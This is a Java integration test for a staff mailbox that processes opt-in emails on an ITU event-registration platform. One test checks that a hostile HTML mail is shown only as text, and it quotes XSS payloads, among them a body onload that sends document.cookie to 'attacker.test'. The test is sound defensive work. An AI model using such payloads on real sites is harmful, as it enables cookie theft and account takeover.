package org.focalpoint.it;

import jakarta.annotation.Resource;
import jakarta.inject.Inject;
import jakarta.mail.Session;
import jakarta.persistence.EntityManager;
import jakarta.persistence.PersistenceContext;
import jakarta.transaction.UserTransaction;
import org.focalpoint.accounts.Account;
import org.focalpoint.audit.AuditAction;
import org.focalpoint.consent.ConsentService;
import org.focalpoint.events.Event;
import org.focalpoint.events.EventKind;
import org.focalpoint.events.Registration;
import org.focalpoint.events.RegistrationState;
import org.focalpoint.mailbox.DirectorMailbox;
import org.focalpoint.mailbox.MailboxItem;
import org.focalpoint.mailbox.MailboxItemState;
import org.focalpoint.optin.OptInSource;
import org.focalpoint.organizations.Organization;
import org.focalpoint.organizations.Sector;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;
import org.openqa.selenium.support.ui.Select;

import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The Director's mailbox through the pages in headless Chromium, as issue 5 judges it: the annex
 * opt-in mail from Example Telecom's TIES Focal Point arrives over IMAP and the application takes
 * it; staff open it from "Director's mailbox" and confirm it; the sender is acknowledged quoting
 * their request; the member's delegate with TIES access then registers for a study-group meeting
 * and is approved automatically. Also: rejecting without a reason is refused and changes nothing,
 * and a mail with scripts in its HTML shows as text and runs nothing.
 */
@BrowserTest
@ExtendWith(ArquillianExtension.class)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class MailboxScenarioIT {

    private static final String REASON_REQUIRED = "Please give the reason, which the sender will read.";

    static final String PASSWORD = "Amber-Lighthouse-Meadow-29";
    static final String STAFF_PASSWORD = "Staff-Office-Desk-2026";
    static final String MEMBER = "Example Telecom Ltd";
    static final String DELEGATE = "dana.delegate@mailbox-scenario.example.org";
    static final String EVENT = "Mailbox Scenario ITU-T Study Group 17 meeting";
    static final String ANNEX = "annex-opt-in.eml";
    static final String ANNEX_SUBJECT = "Automatic approval of registration requests - TSB Circular 118";
    static final String UNKNOWN_ORGANIZATION = "odd/10-unknown-organization.eml";
    static final String UNKNOWN_ORGANIZATION_SUBJECT = "Opt in request";
    static final String HOSTILE_HTML = "odd/08-html-with-script.eml";
    static final String HOSTILE_HTML_SUBJECT = "Automatic approval";
    static final String REJECTION = "Zeta Quantum Labs is not an ITU Member.";

    @Deployment
    static EnterpriseArchive deployment() {
        return FocalPointDeployment.suite();
    }

    @PersistenceContext
    EntityManager em;

    @Resource
    UserTransaction tx;

    @Inject
    ConsentService consents;

    @Resource(lookup = "java:jboss/mail/Director")
    Session director;

    @Inject
    DirectorMailbox mailbox;

    /**
     * Put back as every run starts: an empty queue and inbox, no opt-in for the samples' members,
     * Example Telecom's delegate with TIES access not registered for the meeting. Then three mails
     * arrive over IMAP and the application takes them.
     */
    @Test
    @Order(1)
    void theAnnexOptInAndTwoOddMailsArriveInTheDirectorsMailbox() throws Exception {
        tx.begin();
        MailSamples.emptyQueue(em);
        TestData.staffReady(em, consents);
        Map<String, Organization> registry = MailSamples.worldWithoutOptIns(em);
        Organization member = registry.get("1");
        TestData.tiesGranted(em, TestData.approvedPerson(em, consents, member, DELEGATE, PASSWORD, "Dana", "Delegate"));
        Event event = em.createQuery("select e from Event e where e.title = :title", Event.class)
                .setParameter("title", EVENT).getResultStream().findFirst().orElseGet(() -> {
                    LocalDate day = LocalDate.now(ZoneOffset.UTC).plusDays(200);
                    Event e = new Event(Sector.ITU_T, EventKind.STUDY_GROUP, EVENT, day, day.plusDays(8),
                            Instant.now().minus(Duration.ofDays(1)), Instant.now().plus(Duration.ofDays(180)),
                                    Instant.now());
                    e.holdAt("Geneva");
                    em.persist(e);
                    return e;
                });
        // a night's run may have recorded what it did to them: that record goes with them
        em.createNativeQuery("delete from run_action where registration_id in (select id from registration where event_id = ?1)")
                .setParameter(1, event.getId()).executeUpdate();
        em.createNativeQuery("delete from registration where event_id = ?1").setParameter(1, event.getId()).executeUpdate();
        tx.commit();
        em.getEntityManagerFactory().getCache().evictAll();

        DirectorInbox.empty(director);
        DirectorInbox.deliver(director, List.of(MailSamples.bytes(ANNEX), MailSamples.bytes(UNKNOWN_ORGANIZATION),
                MailSamples.bytes(HOSTILE_HTML)));
        // read here rather than wait up to a minute for the timer; whichever reads, each is taken once
        assertEquals(3, Polling.until(() -> {
            mailbox.readNew();
            return items().size();
        }, n -> n >= 3, Duration.ofMillis(200), Duration.ofMinutes(1), "the three mails to be taken").intValue(),
                "the three mails are in the queue");
    }

    @Test
    @Order(2)
    @RunAsClient
    void staffConfirmTheOptInTheSenderIsAcknowledgedAndTheDelegateIsApprovedAutomatically() {
        String item;
        // Browser stays a local variable: this class also runs in the server, which has no Selenium
        try (Browser staff = new Browser()) {
            staff.signIn(TestData.STAFF_EMAIL, STAFF_PASSWORD).expect("Sign out");
            staff.click("Director's mailbox").expect("3 messages are waiting for a decision.")
                    .expect(MailSamples.FOCAL_POINT).expect("Not a focal point");
            MailboxPages.openMessage(staff, ANNEX_SUBJECT);
            staff.expect("Jane Doe").expect("<20260302091244.4711@mail.example-telecom.test>")
                    .expect("A focal point of the organization.")
                    .expect("On behalf of " + MEMBER + ", I wish to “opt in” to automatic approval")
                    .expect("Jane Doe, Head of Standardization, " + MEMBER);
            assertEquals(MEMBER + " (Switzerland)", staff.field("Member").getAttribute("value"), "prefilled from the reading");
            assertTrue(staff.field("Opt in").isSelected(), "prefilled from the reading");
            staff.expect("Never opted in");
            assertFalse(staff.hasField("I have checked with the member that it asks this"),
                    "the sender is the member's TIES Focal Point");

            staff.click("Confirm").expect("Opt-in of " + MEMBER + " for ITU-T recorded.")
                    .expect("Confirmed by Sam Secretariat on ");
            assertFalse(staff.hasField("Reason for rejecting (the sender will read it)"), "decided: no more forms");
            item = staff.url().replaceAll(".*[?&]item=(\\d+).*", "$1");

            staff.click("Opt-in history of " + MEMBER).expect("Opted in since").expect("TSB-OPT-" + item);
        }

        Mailbox.Mail acknowledgement = Mailbox.await(MailSamples.FOCAL_POINT, "[TSB-OPT-" + item + "]");
        assertTrue(acknowledgement.body().contains(MEMBER + " is now opted in"), acknowledgement.body());
        assertTrue(acknowledgement.body().contains("> On behalf of"), "quotes the request:\n" + acknowledgement.body());

        try (Browser dana = new Browser()) {
            dana.signIn(DELEGATE, PASSWORD).click("Events")
                    .fill("Title or place contains", EVENT)
                    .click("Search")
                    .expect(EVENT)
                    .click("Register")
                    .expect("You are registered for " + EVENT + ": approved automatically.")
                    .expect("Approved automatically");
        }
    }

    @Test
    @Order(3)
    void theOptInCameFromTheMessageAndTheRegistrationWasApprovedAutomatically() {
        MailboxItem annex = item(ANNEX_SUBJECT);
        assertEquals(MailboxItemState.CONFIRMED, annex.getState());
        assertEquals(OptInSource.EMAIL, annex.getOptInChange().getSource());
        assertTrue(annex.getOptInChange().isOptedIn());
        assertEquals(MEMBER, annex.getOptInChange().getOrganization().getName());
        assertEquals(RegistrationState.AUTO_APPROVED, em.createQuery(
                        "select r from Registration r where r.event.title = :title and r.account.emailKey = :key",
                        Registration.class)
                .setParameter("title", EVENT).setParameter("key", Account.emailKey(DELEGATE))
                .getSingleResult().getState());
    }

    @Test
    @Order(4)
    @RunAsClient
    void rejectingWithoutAReasonIsRefused() {
        try (Browser staff = new Browser()) {
            staff.signIn(TestData.STAFF_EMAIL, STAFF_PASSWORD).expect("Sign out");
            staff.click("Director's mailbox").expect("2 messages are waiting for a decision.");
            MailboxPages.openMessage(staff, UNKNOWN_ORGANIZATION_SUBJECT);
            staff.expect("Not a focal point").expect("An address the platform does not know.")
                    .expect("Unreadable: The organization named is not in the registry");
            staff.click("Reject").click("Yes, reject").expect(REASON_REQUIRED);
            staff.expect("Reason for rejecting (the sender will read it)");
        }
    }

    @Test
    @Order(5)
    void theMessageRejectedWithoutAReasonIsUnchanged() {
        MailboxItem unknown = item(UNKNOWN_ORGANIZATION_SUBJECT);
        assertEquals(MailboxItemState.UNREADABLE, unknown.getState());
        assertNull(unknown.getDecidedBy());
        assertNull(unknown.getDecisionReason());
        assertEquals(0, em.createQuery("select count(a) from AuditEntry a where a.action = :action and a.subjectId = :id",
                        Long.class).setParameter("action", AuditAction.MAIL_REQUEST_REJECTED.name())
                .setParameter("id", unknown.getId()).getSingleResult());
    }

    @Test
    @Order(6)
    @RunAsClient
    void rejectedWithAReasonItSaysWhoDecidedAndWhy() {
        try (Browser staff = new Browser()) {
            staff.signIn(TestData.STAFF_EMAIL, STAFF_PASSWORD).expect("Sign out");
            staff.click("Director's mailbox");
            MailboxPages.openMessage(staff, UNKNOWN_ORGANIZATION_SUBJECT);
            staff.expect("No acknowledgement is sent to stranger@mail.example.org: no account has this address");
            staff.fill("Reason for rejecting (the sender will read it)", REJECTION);
            staff.click("Reject").click("Yes, reject").expect("The message was rejected.")
                    .expect("No acknowledgement is sent to stranger@mail.example.org")
                    .expect("Rejected by Sam Secretariat on ").expect("Why: " + REJECTION);

            staff.click("Back to the Director's mailbox").expect("1 message is waiting for a decision.");
            new Select(staff.field("Messages")).selectByVisibleText("Rejected");
            staff.click("Search").expect(UNKNOWN_ORGANIZATION_SUBJECT);
            assertFalse(staff.text().contains(ANNEX_SUBJECT), "only the rejected message:\n" + staff.text());
        }
    }

    @Test
    @Order(7)
    void theSenderNoAccountHasWasNotWrittenTo() {
        MailboxItem unknown = item(UNKNOWN_ORGANIZATION_SUBJECT);
        assertEquals(MailboxItemState.REJECTED, unknown.getState());
        // the outbox row would have been written in the decision's transaction: none means none will leave
        assertEquals(0L, em.createQuery("select count(m) from QueuedMail m where m.recipient = :to", Long.class)
                .setParameter("to", "stranger@mail.example.org").getSingleResult());
    }

    @Test
    @Order(8)
    @RunAsClient
    void theHtmlMailWithScriptsShowsAsTextAndRunsNothing() {
        try (Browser staff = new Browser()) {
            staff.signIn(TestData.STAFF_EMAIL, STAFF_PASSWORD).expect("Sign out");
            staff.click("Director's mailbox").fill("Sender, subject or organization contains", "kitsune")
                    .click("Search").expect("k.tanaka@kitsune.test");
            MailboxPages.openMessage(staff, HOSTILE_HTML_SUBJECT);
            staff.expect("On behalf of Kitsune Denki K.K., I wish to opt in to automatic approval");
            assertEquals(List.of(), MailboxPages.tracesOfTheHostileMail(staff));

            staff.click("Show the message as received")
                    .expect("<script type=\"text/javascript\">alert('opt out');</script>")
                    .expect("<body onload=\"fetch('http://attacker.test/?c='+document.cookie)\">")
                    .expect("<img src=\"x\" onerror=\"alert(document.domain)\">");
            assertEquals(List.of(), MailboxPages.tracesOfTheHostileMail(staff));
            staff.click("Hide the message as received");
            assertFalse(staff.text().contains("<script"), "the source is hidden again");

            // the sender is affiliated with the member, not its focal point: staff must say they checked
            staff.expect("Affiliated with the organization, not a focal point.");
            assertTrue(staff.hasField("I have checked with the member that it asks this"));
            staff.choose("Member", "Fjordnet", "Fjordnet Oy").expect("Never opted in");
            staff.click("Confirm").expect("The sender is not a focal point of Fjordnet Oy.");
            staff.expect("State: To review");
        }
    }

    @Test
    @Order(9)
    @RunAsClient
    void anAddressWithoutAMessageOfTheQueueSaysSo() {
        try (Browser staff = new Browser()) {
            staff.signIn(TestData.STAFF_EMAIL, STAFF_PASSWORD).expect("Sign out");
            for (String address : List.of("staff/mailbox-item.xhtml", "staff/mailbox-item.xhtml?item=abc",
                    "staff/mailbox-item.xhtml?item=-1", "staff/mailbox-item.xhtml?item=99999999999999999999")) {
                staff.open(address).expect("This message is not in the queue.");
                assertFalse(staff.text().contains("Exception"), address + ":\n" + staff.text());
                assertFalse(staff.hasField("Member"), address);
            }
        }
    }

    private MailboxItem item(String subject) {
        em.getEntityManagerFactory().getCache().evictAll();
        return em.createQuery("select i from MailboxItem i where i.subject = :subject", MailboxItem.class)
                .setParameter("subject", subject).getSingleResult();
    }

    private List<MailboxItem> items() {
        em.getEntityManagerFactory().getCache().evictAll();
        return em.createQuery("select i from MailboxItem i", MailboxItem.class).getResultList();
    }
}
